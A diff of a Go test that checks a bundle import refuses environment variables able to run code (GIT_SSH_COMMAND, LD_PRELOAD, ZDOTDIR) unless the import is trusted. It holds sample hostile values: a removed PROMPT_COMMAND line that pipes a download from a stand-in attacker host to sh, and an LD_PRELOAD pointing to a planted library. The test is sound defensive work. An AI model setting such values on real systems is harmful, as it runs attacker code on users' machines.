@@ -207,7 +207,7 @@ func nhBundleWith(t *testing.T, edit func(*handoff.Bundle)) []byte {
 func TestImportBundleRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
 	ctx := context.Background()
 	evil := nhBundleWith(t, func(b *handoff.Bundle) {
-		b.Vars["PROMPT_COMMAND"] = "curl -s https://evil.invalid | sh"
+		b.Vars["ZDOTDIR"] = "/tmp/evil-zsh"
 		b.Vars["LD_PRELOAD"] = "/tmp/evil.so"
 		b.Secrets = append(b.Secrets, "GIT_SSH_COMMAND")
 	})
@@ -215,14 +215,14 @@ func TestImportBundleRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
 	_, err := w.ImportBundle(ctx, evil, ImportOptions{})
 	require.Error(t, err)
 	assert.True(t, badinput.Is(err))
-	assert.Equal(t, "the bundle sets GIT_SSH_COMMAND, LD_PRELOAD, PROMPT_COMMAND, which make programs or shells run code or load libraries: import it with --trust only if you trust whoever sent it", err.Error())
+	assert.Equal(t, "the bundle sets GIT_SSH_COMMAND, LD_PRELOAD, ZDOTDIR, which make programs or shells run code or load libraries: import it with --trust only if you trust whoever sent it", err.Error())
 	cs, err := w.Clients(ctx, true)
 	require.NoError(t, err)
 	assert.Empty(t, cs, "nothing was written")
 
 	res, err := w.ImportBundle(ctx, evil, ImportOptions{Trust: true})
 	require.NoError(t, err)
-	assert.Equal(t, []string{"LD_PRELOAD", "PROMPT_COMMAND", "REGION"}, res.Vars)
+	assert.Equal(t, []string{"LD_PRELOAD", "REGION", "ZDOTDIR"}, res.Vars)
 	p, err := w.Profile(ctx, "acme")
 	require.NoError(t, err)
 	assert.Equal(t, "/tmp/evil.so", p.Vars["LD_PRELOAD"])
